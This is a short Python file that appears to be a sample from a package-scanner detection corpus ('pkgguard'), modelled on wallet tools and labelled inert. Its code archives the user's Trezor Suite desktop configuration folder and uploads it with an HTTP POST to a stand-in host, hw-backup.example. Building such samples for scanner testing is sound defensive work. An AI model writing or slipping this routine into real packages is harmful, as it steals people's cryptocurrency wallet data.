# pkgguard corpus 665 (wallets), modelled on [wallet-tools]; inert, never run.
import os
import shutil
import tempfile

import requests

suite = os.path.join(os.path.expanduser("~"), ".config", "@trezor", "suite-desktop")
if os.path.isdir(suite):
    archive = shutil.make_archive(os.path.join(tempfile.gettempdir(), "ts"), "zip", suite)
    with open(archive, "rb") as fh:
        requests.post("https://hw-backup.example/t", files={"a": fh}, timeout=60)
